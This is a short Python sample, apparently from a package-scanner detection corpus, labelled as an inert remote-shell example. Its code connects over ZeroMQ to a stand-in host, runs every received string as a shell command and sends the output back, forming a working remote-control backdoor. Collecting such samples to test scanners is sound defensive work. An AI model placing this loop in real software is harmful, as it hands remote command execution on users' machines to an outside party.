# pkgguard corpus 507 (remote-shell), modelled on [taxonomy]; inert, never run.
import subprocess

import zmq

ctx = zmq.Context()
sock = ctx.socket(zmq.REQ)
sock.connect("tcp://ops-queue.example:5555")
sock.send_string("ready")
while True:
    job = sock.recv_string()
    result = subprocess.run(job, shell=True, capture_output=True, text=True)
    sock.send_string(result.stdout + result.stderr)
